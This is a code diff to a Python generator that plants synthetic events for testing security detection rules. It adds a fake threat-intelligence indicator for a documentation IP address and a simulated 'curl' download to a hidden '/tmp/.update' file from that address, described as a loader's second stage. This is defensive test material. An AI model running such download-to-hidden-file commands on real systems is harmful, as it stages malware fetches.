@@ -13,10 +13,10 @@ from typing import Literal
 
 from runner.sample_data.addresses import Endpoint
 from runner.sample_data.command_lines import Words
-from runner.sample_data.machine_state import SECOND, Machine
+from runner.sample_data.machine_state import SECOND, Machine, time_text
 from runner.sample_data.planted.ground_truth import ExampleRule, Planted
 from runner.sample_data.processes import Process, SampleProgram
-from runner.sample_data.timeline import Timeline, TimelineStep
+from runner.sample_data.timeline import SampleIndicator, Timeline, TimelineStep
 
 DAY_BEFORE = 25 * 3_600 * SECOND
 """Nanoseconds before the newest event at which the events lie that make a term known: rules of type new_terms alert
@@ -24,6 +24,9 @@ where the events reach back a day."""
 EVENTS_AT_LEAST = 1_000
 """Fewer events do not hide the incidents of all example rules."""
 _SWEPT, _TOO_FEW = 24, 12
+_KNOWN_ADDRESS, _OTHER_ADDRESS = "192.0.2.77", "192.0.2.78"
+"""For documentation: https://www.rfc-editor.org/rfc/rfc5737"""
+_FEED = "ti_sample.indicators"
 Ids = tuple[str, ...]
 """The events that an alert stands for, or those that almost make one."""
 
@@ -46,6 +49,7 @@ class PlantedExamples:
 
     steps: tuple[TimelineStep, ...]
     truth: tuple[Planted, ...]
+    indicators: tuple[SampleIndicator, ...] = ()
 
 
 def plant_examples(
@@ -76,7 +80,7 @@ def plant_examples(
             truth.append(_planted(kind, example.rule, variant, line=line, ids=ids))
     steps.sort(key=lambda step: step.at)
     truth.sort(key=lambda item: item.at)
-    return PlantedExamples(tuple(steps), tuple(truth))
+    return PlantedExamples(tuple(steps), tuple(truth), (_indicator(last - DAY_BEFORE if history else first),))
 
 
 def _planted(
@@ -150,6 +154,40 @@ def _module(line: Timeline, *, path: str) -> Ids:
     return (loaded,)
 
 
+def _connection(line: Timeline, *, address: str) -> Ids:
+    """A download from an address."""
+    parent = line.rng.choice(line.machine.sessions)
+    command = ("curl", "-s", "-o", "/tmp/.update", f"https://{address}/update")
+    process = line.run(parent, SampleProgram("/usr/bin/curl", command))
+    line.wait(1_000, 9_000)
+    connected = line.connect(process, Endpoint("", address, 443))
+    line.wait(20_000, 90_000)
+    line.end(process)
+    return (connected,)
+
+
+def _indicator(at: int) -> SampleIndicator:
+    """The indicator of the address, as the integrations for threat intelligence write them."""
+    stamp = time_text(at, 3)
+    document = {
+        "@timestamp": stamp,
+        "data_stream": {"dataset": _FEED, "namespace": "default", "type": "logs"},
+        "event": {
+            "category": ["threat"], "created": stamp, "dataset": _FEED, "id": "sample-indicator-1",
+            "kind": "enrichment", "module": "ti_sample", "type": ["indicator"],
+        },
+        "message": "an indicator of the sample: an address for documentation, of nobody",
+        "threat": {
+            "feed": {"name": "Sample feed"},
+            "indicator": {
+                "confidence": "High", "description": "serves the second stage of a loader", "first_seen": stamp,
+                "ip": _KNOWN_ADDRESS, "port": 443, "provider": "sample", "type": "ipv4-addr",
+            },
+        },
+    }  # fmt: skip
+    return SampleIndicator(at, document)
+
+
 EXAMPLES: tuple[Example, ...] = (
     Example(
         ExampleRule.SCHEDULED_JOB,
@@ -179,5 +217,12 @@ EXAMPLES: tuple[Example, ...] = (
         "a module that was loaded the day before, too",
         lambda line: _module(line, path="/opt/vendor/vmhgfs.ko"),
         before=lambda line: _module(line, path="/opt/vendor/vmhgfs.ko"),
+    ),
+    Example(
+        ExampleRule.KNOWN_ADDRESS,
+        "a download from the address of an indicator",
+        lambda line: _connection(line, address=_KNOWN_ADDRESS),
+        "a download from the address beside it",
+        lambda line: _connection(line, address=_OTHER_ADDRESS),
     ),
 )
